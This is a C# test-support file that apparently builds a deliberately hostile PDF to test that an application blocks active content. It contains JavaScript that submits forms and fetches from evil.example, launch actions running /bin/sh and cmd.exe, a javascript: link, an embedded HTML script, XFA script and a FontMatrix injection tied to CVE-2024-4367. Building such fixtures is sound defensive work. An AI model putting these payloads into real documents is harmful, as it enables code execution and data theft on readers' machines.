namespace CommitteeHub.Tests.Support;

/// <summary>A PDF that tries everything a PDF can try: scripts when it opens, when a page is shown and when a field is filled, links that launch, send and call out, a file inside, a form in XML, and a font that is a script.</summary>
public static class HostilePdf
{
    /// <summary>What a script in it would set.</summary>
    public const string Canary = "__pwned";

    private const string Script = "window.__pwned = 1; app.alert('pwned'); this.submitForm('https://evil.example/steal'); app.launchURL('https://evil.example/launch', true); fetch('https://evil.example/fetch');";

    public static byte[] Make()
    {
        const string content = "BT /F1 24 Tf 72 720 Td (The hostile handbook) Tj ET";
        const string xfa = "<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template xmlns='http://www.xfa.org/schema/xfa-template/3.3/'><subform><event activity='initialize'><script contentType='application/x-javascript'>window.__pwned = 1</script></event></subform></template></xdp:xdp>";
        string[] objects =
        [
            "<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R /WS 6 0 R /DP 6 0 R >> /AcroForm << /Fields [10 0 R] /XFA 12 0 R /NeedAppearances true >> /Names << /JavaScript << /Names [(a) 6 0 R] >> /EmbeddedFiles << /Names [(evil.html) 13 0 R] >> >> >>",
            "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
            // CVE-2024-4367: what stands in a FontMatrix once became code.
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /FontMatrix [0.001 0 0 0.001 0 (0\\); window.__pwned = 1; //)] >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R /AA << /O 6 0 R /C 6 0 R >> /Annots [7 0 R 8 0 R 9 0 R 10 0 R 11 0 R] >>",
            $"<< /Length {content.Length} >>\nstream\n{content}\nendstream",
            $"<< /S /JavaScript /JS ({Script.Replace("(", "\\(").Replace(")", "\\)")}) >>",
            "<< /Type /Annot /Subtype /Link /Rect [72 600 300 640] /A << /S /URI /URI (javascript:window.__pwned=1) >> >>",
            "<< /Type /Annot /Subtype /Link /Rect [72 550 300 590] /A << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
            "<< /Type /Annot /Subtype /Link /Rect [72 500 300 540] /A << /S /GoToR /F (https://evil.example/other.pdf) /D [0 /Fit] >> >>",
            "<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (text) /Rect [72 450 300 490] /AA << /K 6 0 R /Fo 6 0 R /V 6 0 R /C 6 0 R >> /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/form) >> >> >>",
            "<< /Type /Annot /Subtype /FileAttachment /Rect [320 600 350 640] /FS 13 0 R /Contents (open me) >>",
            $"<< /Length {xfa.Length} >>\nstream\n{xfa}\nendstream",
            "<< /Type /Filespec /F (evil.html) /EF << /F 14 0 R >> >>",
            "<< /Type /EmbeddedFile /Length 39 >>\nstream\n<script>window.opener.__pwned=1</script\nendstream",
        ];
        return TinyPdf.Of(objects);
    }
}
